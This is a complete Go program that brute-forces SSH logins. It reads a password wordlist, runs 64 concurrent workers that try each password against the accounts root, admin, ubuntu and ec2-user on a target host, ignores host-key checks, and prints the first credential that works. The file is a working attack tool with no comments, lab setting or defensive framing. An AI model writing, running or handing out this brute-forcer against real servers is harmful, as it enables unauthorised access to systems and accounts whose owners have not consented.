package main

import (
	"bufio"
	"fmt"
	"os"
	"sync"
	"time"

	"golang.org/x/crypto/ssh"
)

type cred struct{ u, p string }

func try(host string, c cred) bool {
	cfg := &ssh.ClientConfig{User: c.u, Auth: []ssh.AuthMethod{ssh.Password(c.p)}, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 3 * time.Second}
	cl, err := ssh.Dial("tcp", host+":22", cfg)
	if err != nil {
		return false
	}
	cl.Close()
	return true
}

func main() {
	host := os.Args[1]
	jobs := make(chan cred)
	var wg sync.WaitGroup
	for i := 0; i < 64; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for c := range jobs {
				if try(host, c) {
					fmt.Println("OK", host, c.u, c.p)
					os.Exit(0)
				}
			}
		}()
	}
	f, _ := os.Open(os.Args[2])
	s := bufio.NewScanner(f)
	for s.Scan() {
		for _, u := range []string{"root", "admin", "ubuntu", "ec2-user"} {
			jobs <- cred{u, s.Text()}
		}
	}
	close(jobs)
	wg.Wait()
}
